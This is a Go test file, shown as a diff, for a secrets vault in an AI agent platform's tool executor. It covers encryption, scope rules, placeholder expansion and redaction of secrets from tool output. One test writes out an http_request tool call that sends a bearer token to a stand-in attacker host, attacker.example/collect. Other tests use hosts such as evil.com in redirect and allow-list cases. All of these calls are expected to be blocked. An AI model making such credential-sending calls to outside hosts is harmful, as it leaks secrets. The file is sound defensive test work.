@@ -0,0 +1,447 @@
+package executor
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"sort"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/c360studio/semdragons/domain"
+	"github.com/c360studio/semdragons/processor/agentprogression"
+	"github.com/c360studio/semstreams/agentic"
+	"github.com/nats-io/nats.go/jetstream"
+)
+
+// memKV is an in-memory jetstream.KeyValue covering the methods the vault
+// uses. Other methods panic through the nil embedded interface.
+type memKV struct {
+	jetstream.KeyValue
+	mu   sync.Mutex
+	data map[string][]byte
+}
+
+func newMemKV() *memKV { return &memKV{data: make(map[string][]byte)} }
+
+func (m *memKV) Get(_ context.Context, key string) (jetstream.KeyValueEntry, error) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	v, ok := m.data[key]
+	if !ok {
+		return nil, jetstream.ErrKeyNotFound
+	}
+	return memEntry{key: key, value: v}, nil
+}
+
+func (m *memKV) Put(_ context.Context, key string, value []byte) (uint64, error) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	m.data[key] = value
+	return uint64(len(m.data)), nil
+}
+
+func (m *memKV) Delete(_ context.Context, key string, _ ...jetstream.KVDeleteOpt) error {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	delete(m.data, key)
+	return nil
+}
+
+func (m *memKV) Keys(_ context.Context, _ ...jetstream.WatchOpt) ([]string, error) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	if len(m.data) == 0 {
+		return nil, jetstream.ErrNoKeysFound
+	}
+	keys := make([]string, 0, len(m.data))
+	for k := range m.data {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	return keys, nil
+}
+
+type memEntry struct {
+	key   string
+	value []byte
+}
+
+func (e memEntry) Bucket() string                  { return SecretsBucket }
+func (e memEntry) Key() string                     { return e.key }
+func (e memEntry) Value() []byte                   { return e.value }
+func (e memEntry) Revision() uint64                { return 1 }
+func (e memEntry) Created() time.Time              { return time.Time{} }
+func (e memEntry) Delta() uint64                   { return 0 }
+func (e memEntry) Operation() jetstream.KeyValueOp { return jetstream.KeyValuePut }
+
+func newTestVault(t *testing.T, kv jetstream.KeyValue) *SecretVault {
+	t.Helper()
+	key := make([]byte, 32)
+	if _, err := rand.Read(key); err != nil {
+		t.Fatal(err)
+	}
+	v, err := NewSecretVault(kv, key)
+	if err != nil {
+		t.Fatalf("NewSecretVault: %v", err)
+	}
+	return v
+}
+
+func TestSecretVault_PutResolveListDelete(t *testing.T) {
+	t.Parallel()
+
+	ctx := context.Background()
+	kv := newMemKV()
+	vault := newTestVault(t, kv)
+	agent := &agentprogression.Agent{Tier: domain.TierJourneyman}
+	quest := &domain.Quest{ID: "q1"}
+
+	if _, err := vault.Put(ctx, "npm_token", "npm_abc123", "registry token", SecretScope{}); err != nil {
+		t.Fatalf("Put: %v", err)
+	}
+	if bytes.Contains(kv.data["npm_token"], []byte("npm_abc123")) {
+		t.Fatal("secret stored in plaintext")
+	}
+
+	got, err := vault.ResolveSecret(ctx, "npm_token", "", quest, agent)
+	if err != nil || got != "npm_abc123" {
+		t.Fatalf("ResolveSecret = %q, %v", got, err)
+	}
+
+	infos, err := vault.List(ctx)
+	if err != nil || len(infos) != 1 || infos[0].Name != "npm_token" || infos[0].Description != "registry token" {
+		t.Fatalf("List = %+v, %v", infos, err)
+	}
+	data, _ := json.Marshal(infos)
+	if strings.Contains(string(data), "npm_abc123") || strings.Contains(string(data), "ciphertext") {
+		t.Errorf("List leaks secret material: %s", data)
+	}
+
+	// A record copied under another name fails authentication.
+	kv.data["stolen"] = kv.data["npm_token"]
+	if _, err := vault.ResolveSecret(ctx, "stolen", "", quest, agent); err == nil {
+		t.Error("ciphertext moved to another key still decrypted")
+	}
+
+	// A vault with a different key cannot read the value.
+	other := newTestVault(t, kv)
+	if _, err := other.ResolveSecret(ctx, "npm_token", "", quest, agent); err == nil {
+		t.Error("secret decrypted with the wrong key")
+	}
+
+	if err := vault.Delete(ctx, "npm_token"); err != nil {
+		t.Fatalf("Delete: %v", err)
+	}
+	if err := vault.Delete(ctx, "npm_token"); !errors.Is(err, ErrSecretNotFound) {
+		t.Errorf("second Delete = %v; want ErrSecretNotFound", err)
+	}
+	if _, err := vault.ResolveSecret(ctx, "npm_token", "", quest, agent); err == nil {
+		t.Error("deleted secret still resolves")
+	}
+}
+
+func TestSecretVault_PutValidation(t *testing.T) {
+	t.Parallel()
+
+	vault := newTestVault(t, newMemKV())
+	if _, err := vault.Put(context.Background(), "bad.name", "v", "", SecretScope{}); err == nil {
+		t.Error("accepted a name with a dot")
+	}
+	if _, err := vault.Put(context.Background(), "empty", "", "", SecretScope{}); err == nil {
+		t.Error("accepted an empty value")
+	}
+	for _, host := range []string{"https://api.example.com", "api.example.com/v1", "*", "a*.example.com"} {
+		if _, err := vault.Put(context.Background(), "scoped", "v", "", SecretScope{Hosts: []string{host}}); err == nil {
+			t.Errorf("accepted scope host %q", host)
+		}
+	}
+	if _, err := ParseSecretsKey("c2hvcnQ="); err == nil {
+		t.Error("accepted a short key")
+	}
+}
+
+func TestSecretScope_Allows(t *testing.T) {
+	t.Parallel()
+
+	expert := domain.TierExpert
+	scope := SecretScope{
+		Repos:   []string{"webapp"},
+		Guilds:  []domain.GuildID{"guild-ops"},
+		MinTier: &expert,
+		Quests:  []domain.QuestID{"q1", "q2"},
+	}
+	inScopeQuest := &domain.Quest{ID: "q1", Repo: "webapp"}
+	inScopeAgent := &agentprogression.Agent{Tier: domain.TierMaster, Guild: "guild-ops"}
+
+	tests := []struct {
+		name  string
+		quest *domain.Quest
+		agent *agentprogression.Agent
+		want  bool
+	}{
+		{"all match", inScopeQuest, inScopeAgent, true},
+		{"other repo", &domain.Quest{ID: "q1", Repo: "infra"}, inScopeAgent, false},
+		{"other guild", inScopeQuest, &agentprogression.Agent{Tier: domain.TierMaster, Guild: "guild-web"}, false},
+		{"no guild", inScopeQuest, &agentprogression.Agent{Tier: domain.TierMaster}, false},
+		{"tier too low", inScopeQuest, &agentprogression.Agent{Tier: domain.TierJourneyman, Guild: "guild-ops"}, false},
+		{"other quest", &domain.Quest{ID: "q3", Repo: "webapp"}, inScopeAgent, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := scope.Allows(tt.quest, tt.agent); got != tt.want {
+				t.Errorf("Allows = %v; want %v", got, tt.want)
+			}
+		})
+	}
+	if !(SecretScope{}).Allows(&domain.Quest{}, &agentprogression.Agent{}) {
+		t.Error("empty scope should allow every quest")
+	}
+}
+
+func TestSecretScope_AllowsHost(t *testing.T) {
+	t.Parallel()
+
+	scope := SecretScope{Hosts: []string{"registry.npmjs.org", "*.example.com"}}
+	for host, want := range map[string]bool{
+		"registry.npmjs.org":  true,
+		"REGISTRY.npmjs.org.": true,
+		"api.example.com":     true,
+		"example.com":         false,
+		"evil.com":            false,
+		"example.com.evil.io": false,
+		"":                    false,
+	} {
+		if got := scope.AllowsHost(host); got != want {
+			t.Errorf("AllowsHost(%q) = %v; want %v", host, got, want)
+		}
+	}
+	if !(SecretScope{}).AllowsHost("") {
+		t.Error("scope without hosts should allow calls without a URL")
+	}
+}
+
+func TestExpandSecrets_HostScope(t *testing.T) {
+	t.Parallel()
+
+	ctx := context.Background()
+	vault := newTestVault(t, newMemKV())
+	if _, err := vault.Put(ctx, "npm_token", "npm_abc123", "", SecretScope{Hosts: []string{"registry.npmjs.org"}}); err != nil {
+		t.Fatalf("Put: %v", err)
+	}
+	headers := map[string]any{"Authorization": "Bearer {{secret:npm_token}}"}
+
+	call := makeToolCall("http_request", map[string]any{"url": "https://registry.npmjs.org/pkg", "headers": headers})
+	expanded, values, err := expandSecrets(ctx, vault, []string{"headers"}, call, nil, nil)
+	if err != nil || len(values) != 1 || expanded.Arguments["headers"].(map[string]any)["Authorization"] != "Bearer npm_abc123" {
+		t.Fatalf("matching host: headers = %v, err = %v", expanded.Arguments["headers"], err)
+	}
+
+	call = makeToolCall("http_request", map[string]any{"url": "https://attacker.example/collect", "headers": headers})
+	if _, _, err := expandSecrets(ctx, vault, []string{"headers"}, call, nil, nil); err == nil {
+		t.Error("secret expanded for a host outside its scope")
+	}
+
+	call = makeToolCall("bash", map[string]any{"command": "env", "env": map[string]any{"TOKEN": "{{secret:npm_token}}"}})
+	if _, _, err := expandSecrets(ctx, vault, []string{"env"}, call, nil, nil); err == nil {
+		t.Error("host-scoped secret expanded into bash env")
+	}
+}
+
+// staticSecrets resolves from a map and ignores scope.
+type staticSecrets map[string]string
+
+func (s staticSecrets) ResolveSecret(_ context.Context, name, _ string, _ *domain.Quest, _ *agentprogression.Agent) (string, error) {
+	if v, ok := s[name]; ok {
+		return v, nil
+	}
+	return "", errors.New("secret " + name + " does not exist or is not available to this quest")
+}
+
+func TestHTTPToolClient_SecretsStayOnHost(t *testing.T) {
+	t.Parallel()
+
+	withSecrets := withSecretValues(context.Background(), secretValues{"s3cret": "api_key"})
+	redirect := func(ctx context.Context, from, to string) error {
+		first, _ := http.NewRequestWithContext(ctx, http.MethodGet, from, nil)
+		next, _ := http.NewRequestWithContext(ctx, http.MethodGet, to, nil)
+		return httpToolClient.CheckRedirect(next, []*http.Request{first})
+	}
+
+	tests := []struct {
+		name     string
+		ctx      context.Context
+		from, to string
+		wantErr  bool
+	}{
+		{"same host", withSecrets, "https://api.example.com/a", "https://API.example.com./b", false},
+		{"other host", withSecrets, "https://api.example.com/a", "https://evil.example.net/b", true},
+		{"other port", withSecrets, "https://api.example.com/a", "https://api.example.com:8443/b", true},
+		{"https downgrade", withSecrets, "https://api.example.com/a", "http://api.example.com/b", true},
+		{"no secrets", context.Background(), "https://api.example.com/a", "https://evil.example.net/b", false},
+	}
+	for _, tt := range tests {
+		if err := redirect(tt.ctx, tt.from, tt.to); (err != nil) != tt.wantErr {
+			t.Errorf("%s: CheckRedirect() = %v, wantErr %v", tt.name, err, tt.wantErr)
+		}
+	}
+}
+
+func TestToolRegistry_ExecuteExpandsAndRedactsSecrets(t *testing.T) {
+	t.Parallel()
+
+	var seen map[string]any
+	reg := NewToolRegistry()
+	reg.Register(RegisteredTool{
+		Definition: agentic.ToolDefinition{Name: "fetch"},
+		SecretArgs: []string{"headers"},
+		Handler: func(ctx context.Context, call agentic.ToolCall, _ *domain.Quest, _ *agentprogression.Agent) agentic.ToolResult {
+			seen = call.Arguments
+			auth := call.Arguments["headers"].(map[string]any)["Authorization"].(string)
+			return agentic.ToolResult{
+				CallID:   call.ID,
+				Content:  "server echoed: " + auth,
+				Metadata: map[string]any{"echo": auth},
+			}
+		},
+	})
+	agent := &agentprogression.Agent{Tier: domain.TierMaster}
+	args := map[string]any{
+		"url":     "https://registry.example.com/{{secret:api_token}}",
+		"headers": map[string]any{"Authorization": "Bearer {{secret:api_token}}", "Accept": "application/json"},
+	}
+
+	t.Run("no vault configured", func(t *testing.T) {
+		res := reg.Execute(context.Background(), makeToolCall("fetch", args), &domain.Quest{}, agent)
+		assertContains(t, res.Error, "no secrets vault is configured")
+	})
+
+	reg.SetSecrets(staticSecrets{"api_token": "tok-9f8e7d"})
+
+	t.Run("expands only secret args and redacts output", func(t *testing.T) {
+		res := reg.Execute(context.Background(), makeToolCall("fetch", args), &domain.Quest{}, agent)
+		if res.Error != "" {
+			t.Fatalf("unexpected error: %s", res.Error)
+		}
+		headers := seen["headers"].(map[string]any)
+		if headers["Authorization"] != "Bearer tok-9f8e7d" || headers["Accept"] != "application/json" {
+			t.Errorf("handler headers = %v", headers)
+		}
+		if seen["url"] != args["url"] {
+			t.Errorf("placeholder outside headers was expanded: %v", seen["url"])
+		}
+		if res.Content != "server echoed: Bearer [redacted:api_token]" || res.Metadata["echo"] != "Bearer [redacted:api_token]" {
+			t.Errorf("result not redacted: %q %v", res.Content, res.Metadata)
+		}
+		if used, _ := res.Metadata["secrets_used"].([]string); len(used) != 1 || used[0] != "api_token" {
+			t.Errorf("secrets_used = %v", res.Metadata["secrets_used"])
+		}
+		if h := args["headers"].(map[string]any); h["Authorization"] != "Bearer {{secret:api_token}}" {
+			t.Error("caller's arguments were mutated")
+		}
+	})
+
+	t.Run("unknown secret fails the call", func(t *testing.T) {
+		bad := map[string]any{"headers": map[string]any{"X-Key": "{{secret:missing}}"}}
+		res := reg.Execute(context.Background(), makeToolCall("fetch", bad), &domain.Quest{}, agent)
+		assertContains(t, res.Error, "secret missing does not exist")
+	})
+}
+
+func TestBashEnvSecrets_Local(t *testing.T) {
+	t.Parallel()
+
+	reg := NewToolRegistry()
+	reg.SetSandboxDir(t.TempDir())
+	reg.RegisterBuiltins()
+	reg.SetSecrets(staticSecrets{"npm_token": "npm_s3cr3t"})
+
+	call := makeToolCall("bash", map[string]any{
+		"command": `echo "registry=$REGISTRY token=$NPM_TOKEN"`,
+		"env":     map[string]any{"REGISTRY": "npm.example.com", "NPM_TOKEN": "{{secret:npm_token}}"},
+	})
+	res := reg.Execute(context.Background(), call, &domain.Quest{}, &agentprogression.Agent{Tier: domain.TierMaster})
+	if res.Error != "" {
+		t.Fatalf("unexpected error: %s", res.Error)
+	}
+	if strings.TrimSpace(res.Content) != "registry=npm.example.com token=[redacted:npm_token]" {
+		t.Errorf("content = %q", res.Content)
+	}
+
+	bad := makeToolCall("bash", map[string]any{"command": "true", "env": map[string]any{"BAD-NAME": "x"}})
+	res = reg.Execute(context.Background(), bad, &domain.Quest{}, &agentprogression.Agent{Tier: domain.TierMaster})
+	assertContains(t, res.Error, "invalid environment variable name")
+}
+
+func TestSandboxSecrets_SentAsEnvAndRedacted(t *testing.T) {
+	t.Parallel()
+
+	var mu sync.Mutex
+	var reqs []sandboxExecReq
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var req sandboxExecReq
+		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
+			http.Error(w, err.Error(), http.StatusBadRequest)
+			return
+		}
+		mu.Lock()
+		reqs = append(reqs, req)
+		mu.Unlock()
+		// A leaky command: echo every env value back.
+		var out strings.Builder
+		for _, v := range req.Env {
+			out.WriteString(v + "\n")
+		}
+		out.WriteString("\n__SEMDRAGONS_CURL_META__\n200\ntext/plain")
+		json.NewEncoder(w).Encode(sandboxExecResp{Stdout: out.String()}) //nolint:errcheck
+	}))
+	t.Cleanup(srv.Close)
+
+	reg := NewToolRegistry()
+	reg.RegisterSandboxTools(NewSandboxClient(srv.URL))
+	reg.SetSecrets(staticSecrets{"api_token": "tok-sandbox-1"})
+	agent := &agentprogression.Agent{Tier: domain.TierMaster}
+	quest := &domain.Quest{ID: "q1"}
+	meta := map[string]any{"quest_id": "q1"}
+
+	bash := agentic.ToolCall{ID: "c1", Name: "bash", Metadata: meta, Arguments: map[string]any{
+		"command": "deploy",
+		"env":     map[string]any{"TOKEN": "{{secret:api_token}}"},
+	}}
+	if res := reg.Execute(context.Background(), bash, quest, agent); strings.Contains(res.Content, "tok-sandbox-1") {
+		t.Errorf("bash output leaked the secret: %q", res.Content)
+	}
+
+	fetch := agentic.ToolCall{ID: "c2", Name: "http_request", Metadata: meta, Arguments: map[string]any{
+		"url":     "https://api.example.com/v1",
+		"headers": map[string]any{"Authorization": "Bearer {{secret:api_token}}"},
+	}}
+	res := reg.Execute(context.Background(), fetch, quest, agent)
+	if strings.Contains(res.Content, "tok-sandbox-1") {
+		t.Errorf("http_request output leaked the secret: %q", res.Content)
+	}
+
+	mu.Lock()
+	defer mu.Unlock()
+	if len(reqs) != 2 {
+		t.Fatalf("sandbox got %d exec requests; want 2", len(reqs))
+	}
+	if reqs[0].Env["TOKEN"] != "tok-sandbox-1" || len(reqs[0].Redact) != 1 || reqs[0].Redact[0] != "tok-sandbox-1" {
+		t.Errorf("bash exec request = %+v", reqs[0])
+	}
+	if strings.Contains(reqs[1].Command, "tok-sandbox-1") {
+		t.Errorf("secret header value on the curl command line: %s", reqs[1].Command)
+	}
+	if reqs[1].Env["SEMDRAGONS_HEADER_0"] != "Authorization: Bearer tok-sandbox-1" {
+		t.Errorf("header env = %v", reqs[1].Env)
+	}
+	if !strings.Contains(reqs[1].Command, `-H "$SEMDRAGONS_HEADER_0"`) {
+		t.Errorf("curl command does not reference the header env: %s", reqs[1].Command)
+	}
+}